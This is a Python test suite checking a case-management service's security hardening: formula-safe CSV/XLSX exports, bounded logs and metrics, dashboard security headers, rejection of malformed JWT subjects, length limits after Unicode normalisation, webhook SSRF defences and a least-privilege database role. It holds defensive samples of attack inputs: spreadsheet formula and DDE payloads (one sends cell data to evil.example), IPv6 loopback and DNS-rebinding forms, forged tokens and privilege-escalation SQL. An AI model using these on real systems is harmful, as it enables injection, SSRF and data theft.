"""Outputs and hardening (issue 21): exports that carry no formula, logs and metrics by route template with a
bounded number of series, the dashboard's security headers, token subjects out of range, length limits after
Unicode normalisation, and webhooks that cannot be aimed at loopback (IPv6 forms, DNS rebinding)."""

import csv
import io
import json
import logging
import secrets
import unicodedata
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from jose import jwt
from openpyxl import load_workbook
from prometheus_client import REGISTRY
from pydantic import BaseModel

from api import logs, security
from api.services.stats import exports
from tests.conftest import SETTINGS, Api
from tests.helpers import case_body

V1 = "/api/v1"

# --- 1. exports -------------------------------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def _doc(names: list[str]) -> dict[str, Any]:
    columns = [
        {"key": "a", "groups": ["Nhóm"], "label": "=Nhãn", "number": 1, "money": False},
        {"key": "b", "groups": [], "label": "Tiền", "number": 2, "money": True},
    ]
    rows = [
        {"type": "unit", "unit_code": f"-{i}", "unit_name": name, "values": {"a": -5, "b": -1.5}}
        for i, name in enumerate(names)
    ]
    rows.append({"type": "total", "unit_code": "", "unit_name": "Tổng", "values": {"a": 7, "b": 0}})
    return {
        "official": "Biểu 01",
        "title": "@Tiêu đề",
        "form": "tcd",
        "period": "2026-Q2",
        "start": date(2026, 3, 15),
        "end": date(2026, 6, 14),
        "generated_at": datetime(2026, 6, 20, 8, 0, tzinfo=UTC),
        "columns": columns,
        "rows": rows,
    }


def test_exports_write_every_formula_like_value_as_text_and_numbers_as_numbers() -> None:
    doc = _doc(DANGEROUS)
    lines = list(csv.reader(io.StringIO(exports.to_csv(doc).decode("utf-8-sig"))))
    cells = [cell for line in lines for cell in line]
    for name in DANGEROUS:
        assert "'" + name in cells, name
        assert name not in cells, name
    assert "'-0" in cells  # a unit code that looks like a negative number is text: it is not a figure
    assert "-5" in cells and "-1.5" in cells  # the figures stay numbers, negatives included
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]

    raw = exports.to_xlsx(doc)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(raw)).active
    assert ws is not None
    texts: list[str] = []
    numbers: list[float] = []
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.value, cell.data_type)
                texts.append(cell.value)
            elif isinstance(cell.value, int | float):
                numbers.append(cell.value)
    for name in DANGEROUS:
        assert name.replace("\r", "\n") in texts, name  # kept as the text it was (XML reads a CR as a LF)
    assert -5 in numbers and -1.5 in numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_a_unit_named_like_a_formula_is_exported_as_text(api: Api) -> None:
    admin = await api.headers("admin")
    parent = (await api.user("tinh.tiepdan")).unit_id
    name = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    made = await api.http.post(
        f"{V1}/units", headers=admin, json={"code": "F-001", "name": name, "level": "commune", "parent_id": parent}
    )
    assert made.status_code == 201, made.text
    h = await api.headers("thanhtra")
    r = await api.http.get(f"{V1}/stats/forms/tcd", headers=h, params={"format": "csv", "period": "2026-Q2"})
    assert r.status_code == 200, r.text
    text = r.content.decode("utf-8-sig")
    assert "'" + name.replace('"', '""') in text or "'" + name in next(
        c for line in csv.reader(io.StringIO(text)) for c in line if "HYPERLINK" in c
    )
    assert not any(c.startswith("=") for line in csv.reader(io.StringIO(text)) for c in line)
    x = await api.http.get(f"{V1}/stats/forms/tcd", headers=h, params={"format": "xlsx", "period": "2026-Q2"})
    with zipfile.ZipFile(io.BytesIO(x.content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


# --- 2. logs and metrics ----------------------------------------------------------------------------------------


def _series() -> set[tuple[str, tuple[tuple[str, str], ...]]]:
    out = set()
    for family in REGISTRY.collect():
        if family.name.startswith("http_request"):
            for sample in family.samples:
                out.add((sample.name, tuple(sorted((k, v) for k, v in sample.labels.items() if k != "le"))))
    return out


async def test_logs_and_metrics_name_routes_by_template_and_stay_bounded(
    api: Api, capsys: pytest.CaptureFixture[str]
) -> None:
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    logs.configure("INFO")
    secrets_sent: list[str] = []
    try:
        await api.http.get("/api/v1/units")  # the ordinary labels exist before counting
        before = _series()
        for i in range(2000):
            token = secrets.token_hex(6)
            secrets_sent.append(token)
            match i % 8:
                case 0:
                    await api.http.get(f"/no/such/{token}")
                case 1:
                    await api.http.get(f"/open311/v2/requests/{token}.json")
                case 2:
                    await api.http.get(f"/open311/v2/requests/LC{token}.xml")
                case 3:
                    await api.http.get(f"/open311/v2/requests/{token}.{token[:3]}")
                case 4:
                    await api.http.request(f"X{token.upper()}", f"/api/v1/{token}")
                case 5:
                    await api.http.get(f"/dashboard/cases/{int(token, 16)}")
                case 6:
                    await api.http.get(f"/dashboard/static/{token}.css")
                case _:
                    await api.http.get(f"/api/v1/public/submissions/{token}", headers={"X-Access-Key": token})
        after = _series()
        out = capsys.readouterr().out
    finally:
        root.handlers, root.level = saved
    grown = after - before
    assert len(grown) <= 60, sorted(grown)[:80]  # a few templates × statuses, not one per request
    lines = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    access = [line for line in lines if line.get("logger") == "api.access"]
    assert len(access) >= 2000
    everything = json.dumps(lines) + json.dumps(sorted(after))
    assert not [t for t in secrets_sent if t in everything or t.upper() in everything]
    paths = {line["path"] for line in access}
    assert "/open311/v2/requests/{request_id}.{fmt}" in paths and "unmatched" in paths, paths
    assert {line["method"] for line in access} <= {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "other"}


async def test_public_access_lines_carry_no_client_address_and_lean_routes_their_template(
    api: Api, capsys: pytest.CaptureFixture[str]
) -> None:
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    logs.configure("INFO")
    try:
        from api.lean import LeanLane
        from tests.test_public import body

        served = LeanLane.served
        made = await api.http.post(f"{V1}/public/submissions", json=body())
        assert made.status_code == 201, made.text
        code = made.json()["tracking_code"]
        await api.http.get(f"{V1}/public/submissions/{code}", headers={"X-Access-Key": made.json()["access_key"]})
        await api.http.get(f"/open311/v2/requests/{code}.json")
        h = await api.headers("tinh.tiepdan")
        case = await api.http.post(f"{V1}/cases", headers=h, json=case_body())
        assert case.status_code == 201, case.text
        assert LeanLane.served == served + 2  # the lean lane answered the submission and the letter
        out = capsys.readouterr().out
    finally:
        root.handlers, root.level = saved
    access = [json.loads(line) for line in out.splitlines() if '"api.access"' in line]
    paths = [a["path"] for a in access]
    assert paths[0] == f"{V1}/public/submissions" and paths[-1] == f"{V1}/cases", paths
    assert "/open311/v2/requests/{request_id}.{fmt}" in paths
    assert code not in out and case.json()["tracking_code"] not in out and str(case.json()["id"]) not in paths
    assert "127.0.0.1" not in out and "client" not in json.dumps(access)


# --- 3. dashboard headers ---------------------------------------------------------------------------------------


async def test_the_dashboard_sends_csp_frame_and_hsts_headers(app: Any, api: Api) -> None:
    for url in ("/dashboard/login", "/dashboard", "/dashboard/static/dashboard.css"):
        r = await api.http.get(url)
        csp = r.headers.get("content-security-policy", "")
        directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
        assert directives.get("script-src") == ["'self'"] or directives.get("default-src") == ["'self'"], csp
        assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp
        assert directives.get("frame-ancestors") == ["'none'"], csp
        assert r.headers.get("x-frame-options") == "DENY"
        assert "strict-transport-security" not in r.headers  # plain http: no HSTS
    page = (await api.http.get("/dashboard/login")).text
    assert "<script" not in page and " style=" not in page
    assert not [w for w in page.split() if w.split("=")[0].startswith("on") and "=" in w]
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="https://test") as https:
        r = await https.get("/dashboard/login")
        assert r.headers["strict-transport-security"].startswith("max-age=")
        assert int(r.headers["strict-transport-security"].split("=")[1].split(";")[0]) >= 31_536_000


# --- 5. token subjects ------------------------------------------------------------------------------------------


def _token(**claims: Any) -> str:
    now = int(datetime.now(UTC).timestamp())
    base = {"iss": SETTINGS.jwt_issuer, "aud": SETTINGS.jwt_audience, "iat": now, "exp": now + 300, "tv": 0}
    base.update(claims)
    return str(jwt.encode(base, SETTINGS.jwt_secret(), algorithm=security.ALGORITHM))


BAD_SUBJECTS: list[dict[str, Any]] = [
    {"sub": str(2**63)},
    {"sub": str(2**31)},
    {"sub": "-1"},
    {"sub": "0"},
    {"sub": "abc"},
    {"sub": "1e309"},
    {"sub": " 1"},
    {"sub": "١"},  # an Arabic-Indic digit one: int() reads it, a subject is never written so
    {"sub": "1", "tv": 1e309},
    {"sub": "1", "tv": 2**63},
    {"sub": "1", "tv": "x"},
    {"sub": "1", "tv": [1]},
]


@pytest.mark.parametrize("claims", BAD_SUBJECTS, ids=[json.dumps(c) for c in BAD_SUBJECTS])
async def test_a_token_whose_subject_is_out_of_range_is_401_on_both_lanes(api: Api, claims: dict[str, Any]) -> None:
    raw = json.dumps(claims["tv"]) if claims.get("tv") == 1e309 else None
    token = _token(**claims) if raw is None else _raw_token(claims["sub"])
    h = {"Authorization": f"Bearer {token}"}
    listing = await api.http.get(f"{V1}/cases", headers=h)
    assert listing.status_code == 401, listing.text
    intake = await api.http.post(f"{V1}/cases", headers=h, json=case_body())  # the lean lane's route
    assert intake.status_code == 401, intake.text
    assert (await api.http.get("/dashboard", cookies={"tiepdan_session": token})).status_code == 303


def _raw_token(sub: str) -> str:
    """A token whose `tv` is JSON's 1e309 (Python reads it as infinity), signed like a real one."""
    import base64
    import hashlib
    import hmac

    def b64(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    now = int(datetime.now(UTC).timestamp())
    header = b64(b'{"alg":"HS256","typ":"JWT"}')
    body = (
        f'{{"sub":"{sub}","iss":"{SETTINGS.jwt_issuer}","aud":"{SETTINGS.jwt_audience}",'
        f'"iat":{now},"exp":{now + 300},"tv":1e309}}'
    )
    signing = f"{header}.{b64(body.encode())}"
    mac = hmac.new(SETTINGS.jwt_secret().encode(), signing.encode(), hashlib.sha256).digest()
    return f"{signing}.{b64(mac)}"


# --- 6. length limits after NFC ---------------------------------------------------------------------------------

# U+FB2C (Hebrew shin with dagesh and shin dot) is one character that NFC writes as three: NFC lengthens it.
LONG = "\ufb2c"
assert len(unicodedata.normalize("NFC", LONG)) == 3


async def test_a_title_that_nfc_lengthens_past_its_limit_is_422_on_both_lanes(api: Api) -> None:
    from api.models.cases.schemas import MAX_TITLE

    h = await api.headers("tinh.tiepdan")
    r = await api.http.post(f"{V1}/cases", headers=h, json=case_body(title=LONG * MAX_TITLE))
    assert r.status_code == 422, r.text
    parties = [{**case_body()["parties"][0], "full_name": LONG * 255}]
    r = await api.http.post(f"{V1}/cases", headers=h, json=case_body(parties=parties))
    assert r.status_code == 422, r.text
    from tests.test_public import body, complaint

    r = await api.http.post(f"{V1}/public/submissions", json=body(title=LONG * 200))
    assert r.status_code == 422, r.text
    r = await api.http.post(
        f"{V1}/public/submissions",
        json=complaint(contact={"full_name": LONG * 255, "phone": "0912000222", "id_number": "015090001234"}),
    )
    assert r.status_code == 422, r.text
    fine = await api.http.post(f"{V1}/public/submissions", json=body(title=LONG * 66))  # 198 after NFC
    assert fine.status_code == 201, fine.text


def _length_limited() -> Iterator[tuple[type[BaseModel], str, int]]:
    """Every request body model's text fields with a maximum length (models, and those the routers define)."""
    import importlib
    import pkgutil

    from annotated_types import MaxLen

    import api.models
    import api.routers

    seen: set[type] = set()
    modules = [
        *pkgutil.walk_packages(api.models.__path__, "api.models."),
        *pkgutil.walk_packages(api.routers.__path__, "api.routers."),
    ]
    for info in modules:
        module = importlib.import_module(info.name)
        for obj in vars(module).values():
            if not (isinstance(obj, type) and issubclass(obj, BaseModel)) or obj in seen:
                continue
            seen.add(obj)
            if getattr(obj, "model_config", {}).get("table"):
                continue
            for name, field in obj.model_fields.items():
                limit = next((m.max_length for m in field.metadata if isinstance(m, MaxLen)), None)
                if limit is not None and field.annotation in (str, str | None):
                    yield obj, name, limit


def test_every_length_limit_holds_after_normalisation() -> None:
    """Each length-limited text field of every request model, validated alone with a text that NFC makes three
    times longer: refused, or kept within its limit (a field that keeps its text as typed)."""
    from pydantic import ValidationError

    checked = 0
    for model, name, limit in _length_limited():
        try:
            made = model.__pydantic_validator__.validate_assignment(model.model_construct(), name, LONG * limit)
        except ValidationError as exc:
            assert [e for e in exc.errors() if e["loc"][:1] == (name,)], (model.__name__, name, exc)
            checked += 1
            continue
        kept = getattr(made, name)
        assert kept is None or len(kept) <= limit, (model.__name__, name, limit, len(kept))
    assert checked > 20


# --- 7. webhooks ------------------------------------------------------------------------------------------------

LOOPBACK_FORMS = [
    "http://[::127.0.0.1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::1]/",
    "http://[0:0:0:0:0:0:0:1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://[64:ff9b::a00:1]/",
    "http://[2002:7f00:1::]/",
    "http://[2002:a9fe:a9fe::1]/",
    "http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/",  # Teredo whose client is 127.0.0.1
    "http://[::ffff:7f00:1]:8080/hook",
    "http://[::]/",
]


async def test_ipv6_forms_of_loopback_are_refused() -> None:
    from api.services.webhooks import public_address

    for url in LOOPBACK_FORMS:
        assert not await public_address(url), url
    assert await public_address("https://93.184.216.34/hook")
    assert await public_address("https://[2606:4700:4700::1111]/hook")
    assert await public_address("https://[64:ff9b::5db8:d822]/hook")  # NAT64 of a public address


async def test_ipv6_forms_of_loopback_are_refused_at_registration(database_url: str) -> None:
    from api.app import create_app

    strict = create_app(SETTINGS.model_copy(update={"webhook_allow_private": False}), database_url=database_url)
    try:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=strict), base_url="http://t") as http:
            r = await http.post(f"{V1}/auth/token", data={"username": "admin", "password": "LaoCai@2026demo"})
            h = {"Authorization": f"Bearer {r.json()['access_token']}"}
            for url in LOOPBACK_FORMS:
                r = await http.post(f"{V1}/webhooks", headers=h, json={"name": "x", "url": url, "event_types": ["*"]})
                assert r.status_code == 422 and r.json()["error"]["code"] == "webhook_url_not_public", (url, r.text)
    finally:
        await strict.state.engine.dispose()
        await strict.state.hot_pool.close()


class Receiver:
    """A real HTTP(S) server on 127.0.0.1 that records what reaches it."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self.server_names: list[str | None] = []
        self.port = 0
        self._server: Any = None

    async def _serve(self, reader: Any, writer: Any) -> None:
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = await reader.read(65536)
            if not chunk:
                break
            data += chunk
        self.requests.append(data)
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()

    async def start(self, ssl: Any = None) -> "Receiver":
        import asyncio

        if ssl is not None:
            ssl.sni_callback = lambda sock, name, ctx: self.server_names.append(name)
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=ssl)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def stop(self) -> None:
        self._server.close()
        await self._server.wait_closed()


def _rebinding(monkeypatch: pytest.MonkeyPatch, name: str, answers: list[str]) -> list[str]:
    """The name resolves to each of `answers` in turn (then to the last one): a DNS-rebinding resolver. Patched
    at the socket (every resolver of the process, the check's and any HTTP client's, asks it)."""
    import socket

    real = socket.getaddrinfo
    asked: list[str] = []

    def fake(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        if (host.decode() if isinstance(host, bytes) else host) != name:
            return real(host, port, *args, **kwargs)
        address = answers[min(len(asked), len(answers) - 1)]
        asked.append(address)
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        sockaddr = (address, port or 0, 0, 0) if family == socket.AF_INET6 else (address, port or 0)
        return [(family, socket.SOCK_STREAM, 6, "", sockaddr)]

    monkeypatch.setattr(socket, "getaddrinfo", fake)
    return asked


def _event_and_sub(url: str) -> tuple[Any, Any]:
    import uuid

    from api.models.webhooks import OutboxEvent, WebhookSubscription

    event = OutboxEvent(
        id=1, event_id=uuid.uuid4(), event_type="deadline.overdue", payload={"x": 1}, created_at=datetime.now(UTC)
    )
    sub = WebhookSubscription(id=1, name="t", url=url, secret="s" * 32, event_types=["*"], is_active=True)
    return event, sub


async def test_a_delivery_refuses_the_loopback_forms(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from api.services import webhooks

    receiver = await Receiver().start()
    try:
        async with httpx.AsyncClient(timeout=1.0) as client:
            for form in ("[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "127.0.0.1"):
                event, sub = _event_and_sub(f"http://{form}:{receiver.port}/hook")
                status, error = await webhooks._send(client, sub, event, datetime.now(UTC), False)
                assert status is None and error == "address_not_public", form
        assert receiver.requests == []
    finally:
        await receiver.stop()


async def test_a_name_that_rebinds_to_loopback_between_check_and_connection_cannot_reach_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from api.services import webhooks

    receiver = await Receiver().start()
    try:
        async with httpx.AsyncClient(timeout=1.0) as client:
            # Public when checked, loopback when the HTTP client would look it up again.
            asked = _rebinding(monkeypatch, "hook.example", ["93.184.216.34", "127.0.0.1"])
            event, sub = _event_and_sub(f"http://hook.example:{receiver.port}/hook")
            status, error = await webhooks._send(client, sub, event, datetime.now(UTC), False)
            assert status is None and error is not None
            assert asked[:1] == ["93.184.216.34"]
            # A name with a loopback address among its public ones.
            monkeypatch.undo()
            _rebinding(monkeypatch, "mixed.example", ["127.0.0.1"])
            event, sub = _event_and_sub(f"http://mixed.example:{receiver.port}/hook")
            assert (await webhooks._send(client, sub, event, datetime.now(UTC), False))[1] == "address_not_public"
        assert receiver.requests == []  # nothing ever reached loopback
    finally:
        await receiver.stop()


async def test_a_delivery_goes_to_the_address_checked_with_the_names_host_header(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Allowed private addresses (WEBHOOK_ALLOW_PRIVATE) show the pinning at work on this machine: the name is
    looked up once, the connection goes to that address, and the request carries the name as its Host."""
    from api.services import webhooks

    receiver = await Receiver().start()
    try:
        asked = _rebinding(monkeypatch, "hook.example", ["127.0.0.1", "10.255.255.1"])
        event, sub = _event_and_sub(f"http://hook.example:{receiver.port}/hook?a=1")
        async with httpx.AsyncClient(timeout=2.0) as client:
            status, error = await webhooks._send(client, sub, event, datetime.now(UTC), True)
        assert (status, error) == (200, None)
        assert asked == ["127.0.0.1"]  # one look-up: the address connected to is the one resolved
        head = receiver.requests[0].decode("latin-1")
        assert head.startswith("POST /hook?a=1 HTTP/1.1")
        assert f"\r\nhost: hook.example:{receiver.port}\r\n" in head.lower()
    finally:
        await receiver.stop()


async def test_a_pinned_https_delivery_presents_the_name_for_sni_and_certificate(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    import ssl

    from api.services import webhooks

    cert, key = _self_signed(tmp_path, "hook.example")
    server_ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    server_ctx.load_cert_chain(cert, key)
    receiver = await Receiver().start(ssl=server_ctx)
    try:
        _rebinding(monkeypatch, "hook.example", ["127.0.0.1"])
        event, sub = _event_and_sub(f"https://hook.example:{receiver.port}/hook")
        client_ctx = ssl.create_default_context(cafile=str(cert))  # the name is verified against the certificate
        async with httpx.AsyncClient(timeout=2.0, verify=client_ctx) as client:
            status, error = await webhooks._send(client, sub, event, datetime.now(UTC), True)
        assert (status, error) == (200, None)
        assert receiver.server_names == ["hook.example"]
    finally:
        await receiver.stop()


def _self_signed(folder: Any, name: str) -> tuple[Any, Any]:
    from datetime import timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(minutes=1))
        .not_valid_after(now + timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "cert.pem", folder / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return cert_path, key_path


# --- 4. the service's own login role (docker-compose's `migrate` step) -----------------------------------------


async def test_the_login_role_is_a_member_of_the_application_role_and_nothing_more(database_url: str) -> None:
    """What docker-compose's one-shot `migrate` service does after the migrations (`python -m api login-role`, as
    the owner), then a session of the service as that login role: `RESET ROLE` gains nothing."""
    import asyncpg
    import yaml

    from api.cli import _login_role

    name = f"tiepdan_login_{secrets.token_hex(3)}"
    assert "created" in await _login_role(database_url, name, secrets.token_urlsafe(24))
    assert "altered" in await _login_role(database_url, name, secrets.token_urlsafe(24))  # run again: idempotent
    dsn, _, query = database_url.replace("postgresql+asyncpg://", "postgresql://").partition("?")
    where = {"host": query.split("host=", 1)[1]} if "host=" in query else {}  # the embedded server's socket
    owner = await asyncpg.connect(dsn, **where)
    conn = await asyncpg.connect(dsn.replace("//postgres@", f"//{name}@"), **where)
    try:
        row = await owner.fetchrow(
            "SELECT rolsuper, rolcreaterole, rolcreatedb, rolbypassrls, rolcanlogin FROM pg_roles WHERE rolname = $1",
            name,
        )
        assert tuple(row) == (False, False, False, False, True)
        await conn.execute(f"SET ROLE {SETTINGS.db_app_role}")  # what the service does on every connection
        assert await conn.fetchval("SELECT count(*) >= 0 FROM cases")
        await conn.execute("RESET ROLE")
        assert await conn.fetchval("SELECT current_user") == name
        for attack in (
            "DELETE FROM case_events",
            "ALTER TABLE case_events DISABLE TRIGGER ALL",
            "TRUNCATE case_events",
            "SET session_replication_role = replica",
            f"ALTER ROLE {name} SUPERUSER",
            "CREATE ROLE someone_else",
        ):
            with pytest.raises(asyncpg.PostgresError):
                await conn.execute(attack)
        assert not await owner.fetchval("SELECT count(*) FROM pg_class c WHERE c.relowner = $1::regrole", name)
    finally:
        await conn.close()
        await owner.execute(f"DROP OWNED BY {name}; DROP ROLE {name}")
        await owner.close()
    with pytest.raises(SystemExit):  # the owner itself is refused as the service's login role
        await _login_role(database_url, "postgres", secrets.token_urlsafe(24))
    compose = yaml.safe_load((Path(__file__).parent.parent / "docker-compose.yml").read_text())
    services = compose["services"]
    assert services["api"]["depends_on"]["migrate"] == {"condition": "service_completed_successfully"}
    assert "--no-migrate" in services["api"]["command"]
    assert "${DB_LOGIN_ROLE" in services["api"]["environment"]["DATABASE_URL"]
    assert "login-role" in " ".join(services["migrate"]["command"])
